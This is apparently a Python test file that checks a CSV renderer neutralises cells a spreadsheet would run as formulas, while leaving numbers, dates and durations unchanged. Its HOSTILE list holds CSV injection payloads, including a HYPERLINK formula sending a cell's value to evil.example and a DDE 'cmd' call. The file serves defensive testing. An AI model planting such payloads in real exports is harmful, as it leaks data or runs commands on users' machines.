"""CSV text cells that a spreadsheet would run as formulas are neutralised (OWASP);
numbers, dates and durations are left as they are. Checked by parsing the CSV back."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import nbformat
import pandas as pd

from nbcast.delivery.renderers.csv import CsvRenderer, table_csv
from nbcast.delivery.tables import encode_table
from nbcast.output import TABLE_MIME_TYPE
from tests.delivery import make_report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_text_cells_that_start_a_formula_get_a_quote_in_front() -> None:
    frame = pd.DataFrame({"text": [*HOSTILE, "plain", "a=b", "", None]})
    rows = _rows(table_csv(frame))
    assert rows[0] == ["text"]
    assert [row[0] for row in rows[1:]] == [
        *("'" + value for value in HOSTILE),
        "plain",
        "a=b",
        "",
        "",
    ]


def test_numbers_dates_and_durations_are_never_changed() -> None:
    frame = pd.DataFrame(
        {
            "int": [-5, 3],
            "float": [-1.5, 2.0],
            "mixed": [Decimal("-7.25"), -3],
            "when": pd.to_datetime(["2026-06-15 07:00", "2026-06-16 08:00"]),
            "delta": pd.to_timedelta(["-1h", "90m"]),
            "day": [dt.date(2026, 6, 15), dt.date(2026, 6, 16)],
        }
    )
    rows = _rows(table_csv(frame))
    assert rows[1] == ["-5", "-1.5", "-7.25", "2026-06-15T07:00:00", "P-1DT23H0M0S", "2026-06-15"]
    assert rows[2] == ["3", "2.0", "-3", "2026-06-16T08:00:00", "P0DT1H30M0S", "2026-06-16"]


def test_column_names_are_neutralised_too() -> None:
    frame = pd.DataFrame({"=cmd": [1], "-minus": ["x"], "ok": ["=y"]})
    assert _rows(table_csv(frame)) == [["'=cmd", "'-minus", "ok"], ["1", "x", "'=y"]]


def test_a_rendered_report_is_neutralised() -> None:
    frame = pd.DataFrame({"who": ["=1+2", "alice"], "amount": [-10, 20]})
    output = nbformat.v4.new_output(
        "display_data",
        data={TABLE_MIME_TYPE: encode_table(frame, "t")},
        metadata={"nbcast": {"table": "t"}},
    )
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("", outputs=[output])])
    rows = _rows(CsvRenderer().render(notebook, make_report()))
    assert rows == [["who", "amount"], ["'=1+2", "-10"], ["alice", "20"]]
